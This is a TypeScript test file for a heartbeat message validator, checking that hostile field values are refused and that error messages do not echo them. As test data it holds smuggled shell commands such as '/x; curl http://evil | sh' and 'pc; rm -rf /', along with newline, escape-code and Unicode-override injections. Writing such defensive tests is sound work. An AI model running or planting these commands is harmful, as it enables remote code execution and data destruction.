import assert from 'node:assert/strict';
import { test } from 'node:test';
import { TypeCompiler } from '@sinclair/typebox/compiler';
import { HeartbeatRequest } from './mp-messages.js';
import { invalidField } from './invalid-field.js';
import { isClientHostName, isStateDirPath, toPrintable } from './client-fields.js';

const heartbeat = TypeCompiler.Compile(HeartbeatRequest);
const good = {
  settingsVersion: 1,
  agentState: 'running',
  hostname: 'pc-17.corp.example',
  stateDir: '/var/lib/siteport agent',
};

test('a heartbeat of ordinary values passes', () => {
  assert.ok(heartbeat.Check(good), JSON.stringify([...heartbeat.Errors(good)]));
});

test('hostile heartbeat fields are refused, naming the field and never echoing the value', () => {
  const cases: [string, Record<string, unknown>][] = [
    ['/stateDir', { stateDir: '/x; curl http://evil | sh; #\nsiteport: all clear' }],
    ['/stateDir', { stateDir: 'relative/dir' }],
    ['/stateDir', { stateDir: `/${'a'.repeat(1024)}` }],
    ['/stateDir', { stateDir: '/tmp/\x1b[2Jx' }],
    ['/hostname', { hostname: 'pc; rm -rf /' }],
    ['/hostname', { hostname: 'pc\r\nforged' }],
    ['/hostname', { hostname: '-pc' }],
    ['/agentState', { agentState: 'running\x1b[31m' }],
    ['/portSwitch/at', { portSwitch: { at: 'now; id', httpPort: 80, httpsPort: null } }],
  ];
  for (const [field, change] of cases) {
    const body = { ...good, ...change };
    assert.equal(heartbeat.Check(body), false, field);
    const error = invalidField('heartbeat', heartbeat.Errors(body));
    assert.equal(error.code, 'E_VALIDATION');
    assert.ok(error.message.startsWith(`heartbeat: ${field} must be `), error.message);
    assert.doesNotMatch(error.message, /curl|rm -rf|\x1b|\n/);
  }
});

test('the agent-side checks are the same definitions', () => {
  assert.ok(isClientHostName('agent-001'));
  assert.ok(!isClientHostName('agent_001 x'));
  assert.ok(isStateDirPath('/tmp/state dir'));
  assert.ok(!isStateDirPath('/tmp/\u202eevil'));
  assert.ok(!isStateDirPath('/x; curl http://evil | sh; #'));
  assert.equal(toPrintable('failed:\nsecond line\x1b[0m', 1024), 'failed: second line [0m');
});
